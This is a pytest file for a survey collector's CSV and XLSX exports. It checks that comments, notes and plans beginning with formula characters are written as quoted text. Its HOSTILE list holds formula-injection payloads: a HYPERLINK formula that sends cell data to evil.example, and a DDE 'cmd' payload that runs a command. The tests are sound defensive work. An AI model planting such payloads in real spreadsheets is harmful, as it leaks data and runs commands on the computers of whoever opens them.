"""Every text cell of every export is text, never a formula (issue 14, finding 3): comments, notes and
follow-up plans that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are read back from the
CSV and the XLSX files with a leading quote; ordinary text and numbers are as they were."""
import csv
import io
import re
from datetime import datetime

import openpyxl
import pytest

from collector import officers, reports, store
from collector.exports import as_text
from skm.periods import parse
from tests.helpers import wire_response

UNIT, NIP, PERIOD = "dumai-disdukcapil", "198001012010011001", parse("2026-T4")
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "=cmd|' /C calc'!A0"]
ORDINARY = ["Pelayanan cepat, terima kasih", "Antri 2-3 jam", "100% puas"]


@pytest.mark.parametrize("value, expected", [
    *((text, "'" + text) for text in HOSTILE), ("\r=1+1", "'\r=1+1"), ("-", "'-"),
    *((text, text) for text in ORDINARY), ("", ""), (-3, -3), (2.5, 2.5), (None, None), (True, True)])
def test_as_text(value, expected):
    assert as_text(value) == expected


@pytest.fixture
def filled(engine, kiosk):
    """A unit with comments, a follow-up plan and an officer's notes that each try to be a formula."""
    store.save_officer(engine, NIP, "=Petugas Satu", UNIT, "x")
    comments = HOSTILE + ORDINARY
    responses = [wire_response(seq=i + 1, comment=c, officer=NIP) for i, c in enumerate(comments)]
    statuses = kiosk.statuses(kiosk.push(responses))
    assert set(statuses.values()) == {"accepted"}, statuses
    store.add_followup(engine, UNIT, PERIOD.key(), "waktu", "\t=1+1", "@kepala", None, "rencana", "admin")
    store.add_officer_note(engine, NIP, PERIOD.key(), "+62 hari libur", "admin")
    stored = [r["comment"] for r in store.raw_responses(engine, [UNIT], PERIOD.start, PERIOD.end)]
    assert sum(c.startswith(("=", "+", "-", "@")) for c in stored) == len(HOSTILE)  # (the tab is stripped)
    return stored


def xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


# Our own formulas: functions, cell references and arithmetic, no text (a citizen's text has letters, quotes
# or spaces a cell reference does not).
OURS = re.compile(r"=(?:SUM|COUNT|ROUND|LOOKUP|RANK|[A-Z]{1,2}\d+|[$A-Z]+\d+:[$A-Z]+\d+|[$A-Z]+\d+|\d+|[(),/*.])+")


def assert_all_text(cells, expected_texts, summary_from: int | None = None) -> None:
    """No text cell is a formula; the only formulas (``summary_from``: on the Pengolahan sheet from that row
    on) are ours."""
    formulas = [(c.parent.title, c.row, c.value) for c in cells if c.data_type == "f"]
    if summary_from is None:
        assert not formulas, f"cells written as formulas: {formulas}"
    else:
        assert formulas and all(sheet == "Pengolahan" and row >= summary_from and OURS.fullmatch(value)
                                for sheet, row, value in formulas), formulas
    values = {c.value for c in cells}
    for text in expected_texts:
        assert as_text(text) in values, f"{as_text(text)!r} missing from the workbook"


def test_unit_csv_writes_every_text_cell_as_text(engine, filled):
    rows = list(csv.DictReader(io.StringIO("".join(reports.csv_lines(engine, UNIT, PERIOD)))))
    comments = sorted(r["comment"] for r in rows)
    assert comments == sorted(as_text(c) for c in filled) and set(ORDINARY) <= set(comments)
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values() if value)
    assert {r["seq"] for r in rows} == {str(i + 1) for i in range(len(filled))}  # numbers as they were


def test_unit_xlsx_writes_every_text_cell_as_text(engine, filled):
    cells = xlsx_cells(reports.xlsx_bytes(engine, store.get_unit(engine, UNIT), PERIOD))
    respondents = sum(1 for c in cells if c.parent.title == "Pengolahan" and c.column == 1 and isinstance(c.value, int))
    assert respondents == len(filled)
    assert_all_text(cells, ["\t=1+1", "@kepala"], summary_from=reports.FIRST_DATA_ROW + respondents)  # the plan
    assert all(c.data_type == "n" for c in cells if c.column_letter == "A" and isinstance(c.value, int))


def test_officer_xlsx_writes_every_text_cell_as_text(engine, filled):
    view = officers.officer_view(engine, store.get_officer(engine, NIP), PERIOD, minimum=1)
    cells = xlsx_cells(reports.officer_xlsx(store.get_unit(engine, UNIT), view))
    assert_all_text(cells, [*filled, "+62 hari libur"])
    numbers = [c for c in cells if c.column_letter == "B" and c.row == 5]
    assert numbers and numbers[0].data_type == "n" and numbers[0].value == len(filled)
    times = [c for c in cells if c.column_letter == "A" and isinstance(c.value, datetime)]
    assert len(times) == len(filled) + 1  # the comments and the note, as date-time cells
    assert {c.number_format for c in times} == {"dd/mm/yyyy hh:mm"}
    # The wire responses were sent at 09:14:31 Jakarta time, and are shown so (not in UTC, not as text).
    assert {c.value for c in times[1:]} == {datetime(2026, 11, 28, 9, 14, 31)}
